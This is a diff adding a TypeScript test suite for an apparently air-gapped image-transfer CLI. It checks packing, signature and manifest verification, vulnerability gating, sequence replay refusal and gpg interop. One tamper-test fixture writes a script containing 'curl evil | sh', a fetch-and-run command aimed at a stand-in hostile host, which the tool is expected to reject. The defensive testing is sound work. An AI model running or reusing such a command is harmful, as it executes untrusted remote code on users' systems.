@@ -1,0 +1,204 @@
+// pack → inspect → import as a user runs them, and the failure matrix: each refusal with its stable
+// code, exit 1, nothing imported (no tag in the registry, channel state unchanged).
+import assert from 'node:assert/strict';
+import { cp, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { openLayoutStore } from '../../src/oci/layout/layout-store.ts';
+import { runCliProcess } from '../helpers/cli.ts';
+import { createGpgHome, gpgMissing } from '../helpers/gpg.ts';
+import { makeTestImage, skopeo, skopeoMissing } from '../helpers/oci-images.ts';
+import { registryAvailable, startRegistry, type TestRegistry } from '../helpers/registry.ts';
+
+let dir: string;
+let registry: TestRegistry | undefined;
+const missingRegistry = registryAvailable();
+const home = (n: string) => join(dir, `home-${n}`);
+const cli = (args: string[], h = 'pack') => runCliProcess(args, { env: { AIRLOCK_PASSWORD: 'pw', AIRLOCK_HOME: home(h) } });
+const src = () => `oci:${join(dir, 'src')}:app-1.0`;
+const trust = () => ['--key', join(dir, 'img.pub'), '--insecure-ignore-tlog'];
+const signer = () => ['--signer-key', join(dir, 'release.pub')];
+
+async function pack(out: string, extra: string[] = [], h = 'pack') {
+  return cli(['pack', src(), join(dir, 'notes.txt'), '-o', out, '--key', join(dir, 'release.key'), '--channel', 'prod', ...extra], h);
+}
+
+before(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'airlock-transfer-'));
+  const store = await openLayoutStore(join(dir, 'src'), { create: true });
+  await makeTestImage(store, { tag: 'app-1.0', layers: 2, layerSize: 64_000 });
+  await store.close();
+  await writeFile(join(dir, 'notes.txt'), 'release notes\n');
+  await writeFile(join(dir, 'sbom.json'), JSON.stringify({ spdxVersion: 'SPDX-2.3', packages: [{ name: 'a' }, { name: 'b' }, { name: 'c' }] }));
+  for (const k of ['release', 'img', 'other']) assert.equal((await cli(['key', 'generate', '--output-key-prefix', join(dir, k)])).code, 0);
+  // the image is signed on the connected side before packing (its signature travels in the package)
+  assert.equal((await cli(['sign', src(), '--key', join(dir, 'img.key'), '--tlog-upload=false'])).code, 0);
+  if (!missingRegistry) registry = await startRegistry();
+});
+after(async () => {
+  await registry?.stop();
+  await rm(dir, { recursive: true, force: true });
+});
+
+async function tags(repo: string): Promise<string[]> {
+  if (!registry) return [];
+  const res = await fetch(`${registry.url}/v2/${repo}/tags/list`);
+  return res.status === 200 ? ((await res.json()) as { tags: string[] | null }).tags ?? [] : [];
+}
+
+describe('pack → inspect → import', () => {
+  it('packs with SBOM + scan under the gate, inspects with a Markdown report, imports; skopeo reads the image', async (t) => {
+    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
+    await writeFile(join(dir, 'scan.json'), JSON.stringify({ matches: [{ vulnerability: { id: 'CVE-2026-1', severity: 'Medium' }, artifact: { name: 'libx', version: '1.0' } }] }));
+    const p = await pack(join(dir, 'p1.tar'), ['--sign', '--sbom', `${src()}=${join(dir, 'sbom.json')}`, '--scan', `${src()}=${join(dir, 'scan.json')}`, '--fail-on', 'critical']);
+    assert.equal(p.code, 0, p.stderr);
+    const i = await cli(['inspect', join(dir, 'p1.tar'), ...signer(), ...trust(), '--report', join(dir, 'p1.md')], 'air');
+    assert.equal(i.code, 0, i.stderr);
+    const md = await readFile(join(dir, 'p1.md'), 'utf8');
+    assert.match(md, /verdict: \*\*VERIFIED\*\*/);
+    assert.match(md, /spdx, 3 packages/);
+    const imp = await cli(['import', join(dir, 'p1.tar'), '--registry', `${registry.host}/mirror`, ...signer(), ...trust(), '--insecure', '--json'], 'air');
+    assert.equal(imp.code, 0, imp.stderr);
+    const report = JSON.parse(imp.stdout);
+    assert.equal(report.sequence.kind, 'first');
+    assert.ok((await tags('mirror/src')).includes('app-1.0'));
+    if (!skopeoMissing()) {
+      const inspect = JSON.parse(await skopeo('inspect', '--tls-verify=false', `docker://${registry.host}/mirror/src:app-1.0`));
+      assert.equal(inspect.Digest, report.images[0].digest);
+    }
+    const again = await cli(['import', join(dir, 'p1.tar'), '--registry', `${registry.host}/mirror`, ...signer(), ...trust(), '--insecure', '--json'], 'air');
+    assert.equal(again.code, 0, 're-running the same package is idempotent');
+    assert.equal(JSON.parse(again.stdout).sequence.kind, 'same-package');
+  });
+
+  it('a scan over the gate refuses to pack (E_GATE, exit 1), listing the findings; nothing is written', async () => {
+    await writeFile(join(dir, 'bad-scan.json'), JSON.stringify({ matches: [{ vulnerability: { id: 'CVE-2026-9', severity: 'Critical' }, artifact: { name: 'openssl', version: '3.0.0' } }] }));
+    const r = await pack(join(dir, 'never.tar'), ['--scan', `${src()}=${join(dir, 'bad-scan.json')}`, '--fail-on', 'critical'], 'gate');
+    assert.equal(r.code, 1);
+    assert.match(r.stderr, /E_GATE/);
+    assert.match(r.stderr, /CVE-2026-9 \(critical\) in openssl@3\.0\.0/);
+    await assert.rejects(readFile(join(dir, 'never.tar')));
+  });
+});
+
+describe('failure matrix (folder packages, mutated after packing)', () => {
+  let base: string;
+  before(async () => {
+    base = join(dir, 'base-pkg');
+    const r = await pack(base, ['--format', 'dir'], 'matrix');
+    assert.equal(r.code, 0, r.stderr);
+  });
+
+  async function variant(name: string, mutate: (d: string) => Promise<void>): Promise<string> {
+    const d = join(dir, `v-${name}`);
+    await cp(base, d, { recursive: true });
+    await mutate(d);
+    return d;
+  }
+  async function refused(pkg: string, code: string, args: string[] = [...signer(), ...trust()], h = `m-${Math.random().toString(36).slice(2)}`) {
+    const r = await cli(['inspect', pkg, ...args, '--json'], h);
+    assert.equal(r.code, 1, `${code}: ${r.stderr}`);
+    assert.equal(JSON.parse(r.stdout).error.code, code);
+  }
+
+  it('unsigned → E_SIGNERS', async () => refused(await variant('unsigned', (d) => unlink(join(d, 'manifest.sha256.sigstore.json'))), 'E_SIGNERS'));
+  it('signer not in the keyring → E_SIGNERS', async () => refused(base, 'E_SIGNERS', ['--signer-key', join(dir, 'other.pub'), ...trust()]));
+  it('fewer than K signers → E_SIGNERS', async () => refused(base, 'E_SIGNERS', [...signer(), '--require-signers', '2', ...trust()]));
+  it('a signature over another manifest → E_SIGNERS', async () => {
+    const other = join(dir, 'other-pkg');
+    assert.equal((await pack(other, ['--format', 'dir'], 'other')).code, 0);
+    await refused(await variant('swapped-sig', (d) => cp(join(other, 'manifest.sha256.sigstore.json'), join(d, 'manifest.sha256.sigstore.json'))), 'E_SIGNERS');
+  });
+  it('a file modified → E_PACKAGE_TAMPERED', async () => refused(await variant('modified', (d) => writeFile(join(d, 'files', 'notes.txt'), 'changed\n')), 'E_PACKAGE_TAMPERED'));
+  it('a file missing → E_PACKAGE_TAMPERED', async () => refused(await variant('missing', (d) => unlink(join(d, 'files', 'notes.txt'))), 'E_PACKAGE_TAMPERED'));
+  it('a file not listed → E_PACKAGE_TAMPERED', async () => refused(await variant('extra', (d) => writeFile(join(d, 'files', 'extra.sh'), 'curl evil | sh\n')), 'E_PACKAGE_TAMPERED'));
+  it('metadata not covered by the manifest → E_PACKAGE_TAMPERED', async () => {
+    const v = await variant('meta', async (d) => {
+      const meta = JSON.parse(await readFile(join(d, 'airlock-transfer.json'), 'utf8'));
+      meta.sequence.number = 99;
+      await writeFile(join(d, 'airlock-transfer.json'), JSON.stringify(meta));
+    });
+    await refused(v, 'E_PACKAGE_TAMPERED');
+  });
+  it('image signature missing, invalid, or by the wrong key → E_SIGNATURE_INVALID', async () => {
+    await refused(base, 'E_SIGNATURE_INVALID', [...signer(), '--key', join(dir, 'other.pub'), '--insecure-ignore-tlog']);
+    const unsigned = join(dir, 'unsigned-img');
+    const r = await cli(['pack', `oci:${join(dir, 'src')}:app-1.0`, '-o', unsigned, '--format', 'dir', '--key', join(dir, 'release.key'), '--channel', 'x'], 'unsigned-img');
+    assert.equal(r.code, 0, r.stderr);
+    const store = await openLayoutStore(join(unsigned, 'oci'), {});
+    const refs = await store.listReferrers((await store.resolveTag('1-src-app-1.0')).digest);
+    await store.close();
+    assert.ok(refs.length > 0, 'the connected-side signature traveled along');
+  });
+});
+
+describe('sequence: replay, older, gap', () => {
+  it('refuses a replayed or older package and a gap without --allow-gap; nothing is tagged', async (t) => {
+    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
+    const h = 'seq-pack';
+    const p1 = join(dir, 's1.tar');
+    const p2 = join(dir, 's2.tar');
+    const p3 = join(dir, 's3.tar');
+    for (const p of [p1, p2, p3]) assert.equal((await pack(p, [], h)).code, 0);
+    const imp = (p: string, extra: string[] = []) => cli(['import', p, '--registry', `${registry?.host}/seq`, ...signer(), ...trust(), '--insecure', '--json', ...extra], 'seq-air');
+    assert.equal((await imp(p1)).code, 0);
+    const gap = await imp(p3);
+    assert.equal(gap.code, 1);
+    assert.equal(JSON.parse(gap.stdout).error.code, 'E_SEQUENCE');
+    assert.equal((await imp(p2)).code, 0);
+    const replay = await imp(p1);
+    assert.equal(replay.code, 1, 'an older package after a newer one is refused');
+    assert.equal(JSON.parse(replay.stdout).error.code, 'E_SEQUENCE');
+    assert.equal((await imp(p3)).code, 0);
+    const state = JSON.parse(await readFile(join(home('seq-air'), 'channels', 'in', 'prod.json'), 'utf8'));
+    assert.equal(state.number, 3);
+  });
+
+  it('--allow-gap accepts a skip, recorded', async (t) => {
+    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
+    const h = 'gap-pack';
+    const a = join(dir, 'g1.tar');
+    const b = join(dir, 'g2.tar');
+    const c = join(dir, 'g3.tar');
+    for (const p of [a, b, c]) assert.equal((await pack(p, [], h)).code, 0);
+    const imp = (p: string, extra: string[] = []) => cli(['import', p, '--registry', `${registry?.host}/gap`, ...signer(), ...trust(), '--insecure', '--json', ...extra], 'gap-air');
+    assert.equal((await imp(a)).code, 0);
+    const r = await imp(c, ['--allow-gap']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(JSON.parse(r.stdout).sequence.kind, 'gap-allowed');
+    assert.match(await readFile(join(home('gap-air'), 'events.jsonl'), 'utf8'), /gap-allowed/);
+  });
+});
+
+describe('OpenPGP: gpg interop', () => {
+  it('a package signed with a gpg-exported key verifies with gpg --verify and sha256sum -c after tar -x; a gpg inline signature is accepted', async (t) => {
+    const missing = gpgMissing();
+    if (missing) return t.skip(missing);
+    const gpg = await createGpgHome();
+    try {
+      const fingerprint = await gpg.generateKey('Release Team <release@example.com>', 'ed25519');
+      await writeFile(join(dir, 'release-secret.asc'), await gpg.exportSecret(fingerprint));
+      await writeFile(join(dir, 'release-public.asc'), await gpg.exportPublic(fingerprint));
+      const out = join(dir, 'pgp.tar');
+      const r = await cli(['pack', src(), '-o', out, '--pgp-key', join(dir, 'release-secret.asc'), '--channel', 'pgp'], 'pgp');
+      assert.equal(r.code, 0, r.stderr);
+      const x = join(dir, 'pgp-x');
+      const { execFileSync } = await import('node:child_process');
+      execFileSync('mkdir', ['-p', x]);
+      execFileSync('tar', ['-xf', out, '-C', x]);
+      await gpg.ok(['--import', join(dir, 'release-public.asc')]);
+      await gpg.ok(['--verify', join(x, 'manifest.sha256.asc'), join(x, 'manifest.sha256')]);
+      execFileSync('sha256sum', ['-c', '--quiet', 'manifest.sha256'], { cwd: x });
+      const ok = await cli(['inspect', out, '--keyring', join(dir, 'release-public.asc'), ...trust()], 'pgp-air');
+      assert.equal(ok.code, 0, ok.stderr);
+      // the seed's form: gpg --armor --sign manifest.sha256 (an inline signed message)
+      await gpg.ok(['--yes', '--armor', '--local-user', fingerprint, '--pinentry-mode', 'loopback', '--passphrase', '', '--output', join(dir, 'inline.asc'), '--sign', join(x, 'manifest.sha256')]);
+      await cp(join(dir, 'inline.asc'), join(x, 'manifest.sha256.asc'));
+      const inline = await cli(['inspect', x, '--keyring', join(dir, 'release-public.asc'), ...trust()], 'pgp-air2');
+      assert.equal(inline.code, 0, inline.stderr);
+    } finally {
+      await gpg.cleanup();
+    }
+  });
+});
